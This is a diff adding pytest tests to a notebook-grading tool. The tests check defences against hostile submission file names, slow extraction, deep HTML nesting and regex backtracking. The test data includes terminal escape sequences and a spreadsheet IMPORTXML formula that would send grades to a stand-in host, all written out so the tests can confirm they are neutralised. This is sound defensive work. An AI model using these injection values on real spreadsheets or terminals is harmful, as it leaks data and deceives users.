@@ -7,6 +7,7 @@ near-linear in that text, and must not raise, or one notebook stalls or breaks t
 """
 from __future__ import annotations
 
+import re
 import signal
 import sys
 from contextlib import contextmanager
@@ -71,12 +72,16 @@ def test_a_long_sum_of_literals_is_not_a_grader_error():
     pytest.param(lambda: [nbs.code_cell("".join(f"x{i} = {i}\n" for i in range(20_000)))],
                  id="20,000 distinct constants"),
     pytest.param(lambda: [nbs.code_cell(f"y{i} = {i}\n") for i in range(20_000)], id="20,000 cells"),
+    pytest.param(lambda: [nbs.code_cell("".join(f"def f{i}(a):\n    return a\n" for i in range(20_000)))],
+                 id="20,000 functions"),
 ])
 def test_extraction_is_not_quadratic_in_a_cells_statements(cells):
     """A cell of n assignments took n² steps to extract: each kept constant re-split the whole
     cell into lines (``ast.get_source_segment``) and rebuilt the set of every constant kept so
     far. 4,000 lines (40 kB) took 20 s of a worker, 1,000,000 lines (6 MB) more than the
-    10 minutes we waited, with no timeout outside the sandbox: one notebook stalled the batch."""
+    10 minutes we waited, with no timeout outside the sandbox: one notebook stalled the batch.
+    Functions too: each one without global names was compiled after newlines standing for
+    the lines above it (16,000 one-line functions: 12.8 s)."""
     nb = _notebook(cells())
     with _cpu_budget(10.0):
         extraction = extract(nb)
@@ -124,3 +129,161 @@ def test_no_submission_is_dropped_when_a_renamed_id_is_taken(tmp_path):
     found = find_submissions(tmp_path)
     assert sorted(s.path.name for s in found) == ["x_1.ipynb", "x_1_2_nb.ipynb", "x_1~folder.ipynb"]
     assert len({s.id for s in found}) == 3
+
+
+@pytest.mark.parametrize("name, shown", [
+    ("a\x1b]0;pwned\x07\x1b[2J.ipynb", "a\\x1b]0;pwned\\x07\\x1b[2J"),  # retitles and clears the terminal
+    ("b\n[2 of 6] forged: 100 of 100 in 0.1s.ipynb", "b\\x0a[2 of 6] forged: 100 of 100 in 0.1s"),
+    (b"c\xff.ipynb", "c\\xff"),  # not UTF-8: the similarity check failed for the whole class
+    ("d\u202egnp.ipynb", "d\\u202egnp"),  # shown reversed
+    ("Jane Smith_42.ipynb", "Jane Smith_42"),
+])
+def test_a_file_name_cannot_write_control_characters_into_the_ids(tmp_path, name, shown):
+    """The id is the file's (or folder's) name, which a student may choose: it is printed on the
+    instructor's terminal ("[3/40] <id>: 85/100"), heads feedback.md and starts a row of
+    grades.csv. Escape sequences retitled or cleared the terminal, a line break forged a
+    progress line, and a name that was not UTF-8 made the similarity check fail for the whole
+    class (UnicodeEncodeError writing similarity.csv). Such characters are now written out."""
+    import os
+
+    from grader.discover import find_submissions
+
+    path = os.path.join(os.fsencode(tmp_path), name if isinstance(name, bytes) else os.fsencode(name))
+    with open(path, "w") as handle:
+        handle.write("{}")
+    (found,) = find_submissions(tmp_path)
+    assert found.id == shown
+    assert os.fsencode(found.path) == path
+    assert find_submissions(found.path)[0].id == shown
+
+
+# ------------------------------------------------------------------ spreadsheets
+
+_FORMULA = '=IMPORTXML(CONCAT("http://example.invalid/?", B3), "//a")'
+
+
+def test_an_id_is_never_a_formula_in_the_gradebook(tmp_path):
+    """``grades.csv`` and ``similarity.csv`` are opened in spreadsheets. A submission named
+    ``=IMPORTXML(...)`` (a file name in a folder of notebooks, a display name on Moodle) was
+    written as it is, and a spreadsheet evaluates it: Google Sheets fetches the URL on opening,
+    with other students' grades in it. Cells starting with = + - @ get a leading quote
+    (what OWASP's "CSV injection" advice and spreadsheets themselves use for text)."""
+    import csv
+    import io
+
+    from grader.commands import DEFAULT_RUBRIC
+    from grader.report import gradebook_csv
+    from grader.rubric import load_rubric
+    from grader.runner import unreadable_result
+    from grader.similarity import find_similar, write_similarity_csv
+
+    rubric = load_rubric(DEFAULT_RUBRIC)
+    ids = [_FORMULA, "+1", "-2", "@SUM(A1)", "ada"]
+    text = gradebook_csv(rubric, [unreadable_result(rubric, submission_id=i, path="x", message="")
+                                  for i in ids])
+    column = [row[0] for row in csv.reader(io.StringIO(text))][1:]
+    assert sorted(column) == sorted(["'" + i for i in ids[:4]] + ["ada"])
+
+    body = "def f(x):\n" + "".join(f"    v{i} = np.tanh(x * {i}.5) + {i}\n" for i in range(8)) + "    return v7\n"
+    report = find_similar({_FORMULA: {"f": body}, "bob": {"f": body.replace("v", "w")}})
+    path = tmp_path / "similarity.csv"
+    write_similarity_csv(report, path)
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert {rows[1][1], rows[1][2]} == {"'" + _FORMULA, "bob"}
+
+
+def test_a_notebook_named_like_a_class_output_does_not_break_the_run(tmp_path):
+    """Each submission gets the folder ``OUT/<id>``, beside ``grades.csv``, ``report.html`` and
+    ``similarity.csv``. A notebook named ``grades.csv.ipynb`` made the folder ``OUT/grades.csv``,
+    and writing the gradebook at the end of the run raised IsADirectoryError: no gradebook and
+    no report for the whole class. Such an id is renamed as a clashing one is."""
+    from grader.classreport import REPORT_NAME
+    from grader.commands import DEFAULT_RUBRIC, SIMILARITY_CSV
+    from grader.discover import RESERVED_IDS, find_submissions
+    from grader.report import Gradebook
+    from grader.rubric import load_rubric
+
+    written = Gradebook(load_rubric(DEFAULT_RUBRIC)).write(tmp_path)
+    assert {written.name, REPORT_NAME, SIMILARITY_CSV} <= RESERVED_IDS
+    folder = tmp_path / "class"
+    folder.mkdir()
+    for name in RESERVED_IDS:
+        (folder / f"{name}.ipynb").write_text("{}")
+    ids = {s.id for s in find_submissions(folder)}
+    assert len(ids) == len(RESERVED_IDS) and not ids & RESERVED_IDS
+    assert find_submissions(folder / "grades.csv.ipynb")[0].id not in RESERVED_IDS
+
+
+def test_a_def_that_does_not_compile_is_reported_at_its_line_far_down_a_cell():
+    """A def that parses but does not compile is now compiled alone: the line reported is still
+    the cell's line."""
+    source = "# pad\n" * 1500 + "def f():\n    x = 1\n    break\n"
+    extraction = extract(_notebook([nbs.code_cell(source)]))
+    assert "def f():" not in extraction.program().source
+    (message,) = [d.message for d in extraction.diagnostics if d.function == "f" and "Syntax error" in d.message]
+    assert ", line 1503: " in message
+
+
+# ------------------------------------------------------------------ feedback pages
+
+
+@pytest.mark.parametrize("markup", ["<div>" * 20_000, "<b>" * 20_000, "<span><i>" * 10_000,
+                                    "<div></span>" * 10_000, "<div/>" * 20_000],
+                         ids=["div", "b", "span-i", "stray-end-tags", "self-closing-div"])
+def test_deeply_nested_html_costs_the_grading_process_little(markup):
+    """The grading process writes every student's feedback page, one after the other. An HTML
+    output of 20,000 unclosed ``<div>`` (100 kB, the length kept of one output) took 23 s of
+    it in the cleaner (html5lib checks the stack of open elements at each tag: n² steps); 500
+    such outputs in a 50 MB notebook, three hours for everyone's pages. Markup nested deeper
+    than a browser builds (Chromium stops at 512) is now shown as text, escaped."""
+    from grader.feedback_html import sanitize_html
+
+    with _cpu_budget(3.0):
+        cleaned = sanitize_html(markup)
+    assert "<div>" not in cleaned and "<b>" not in cleaned and "<span>" not in cleaned
+    assert "<div/>" not in cleaned
+    assert "&lt;" in cleaned
+
+
+def test_html_nested_as_deep_as_a_browser_builds_is_still_cleaned_as_html():
+    """Below the limit, outputs are cleaned as before: tags allowed are kept, others removed."""
+    from grader.feedback_html import sanitize_html
+
+    markup = "<div>" * 500 + "<script>x</script><b>ok</b>" + "</div>" * 500 + "<p>" * 600 + "<li>" * 600
+    cleaned = sanitize_html(markup)
+    assert cleaned.count("<div>") == 500 and "<b>ok</b>" in cleaned and "<script>" not in cleaned
+
+
+# ------------------------------------------------------------------ the IMDB bonus's reader
+
+
+def test_markdown_full_of_unclosed_tags_costs_little():
+    """Markdown is read for accuracy claims after its HTML tags are removed with the pattern
+    ``<[^>]+>``, tried at every ``<``: with no ``>`` after them, each try ran to the end of the
+    text, n² steps. A 250 kB cell of ``<a `` took 13 s of a worker, 1 MB 3 minutes. Nothing
+    can start a tag after the last ``>``: that part is now left as it is (the same text)."""
+    from grader.imdb.claims import _plain_md, claims_from_markdown
+
+    text = "The LSTM reached a test accuracy of 0.86. " + "<a " * 200_000
+    with _cpu_budget(3.0):
+        claims, _ = claims_from_markdown(text, "cell 3")
+    assert [round(c.value, 2) for c in claims] == [0.86]
+    for sample in ("a <b>c</b> <i", "x < 5 and y > 3 < z", "<<>>", "<", ">", "a<b<c>d>e<f", "*<x*>"):
+        before = re.sub(r"[*_`]{1,3}", "", re.sub(r"<[^>]+>", " ", sample)).replace("&nbsp;", " ")
+        assert _plain_md(sample) == before
+
+
+def test_a_line_of_spaces_in_a_cell_that_does_not_parse_costs_little():
+    """A cell that does not parse is read line by line for IPython syntax; ``x = !ls`` was
+    recognised by ``^(\\s*)[\\w.,\\s\\[\\]]+=\\s*[!%]``, whose two overlapping repeats take n²
+    steps on a line of n spaces (20,000: 5 s; a 1 MB line: hours). The pattern without the
+    first repeat matches the same lines (the second one takes spaces too)."""
+    from grader.extract import _ASSIGN_ESCAPE_RE
+
+    with _cpu_budget(3.0):
+        extraction = extract(_notebook([nbs.code_cell(" " * 200_000 + "x\n")]))
+    assert "rnn_backward" in extraction.functions
+    for line in ("x = !ls", "  a, b = %who_ls", "x == !y", "d[0] =  %time f()", " x.y = ! ls", "f(x) = !a",
+                 "x = 1", "   ", "x =! y", "[a] = %m"):
+        assert bool(_ASSIGN_ESCAPE_RE.match(line)) == bool(re.match(r"^(\s*)[\w.,\s\[\]]+=\s*[!%]", line))
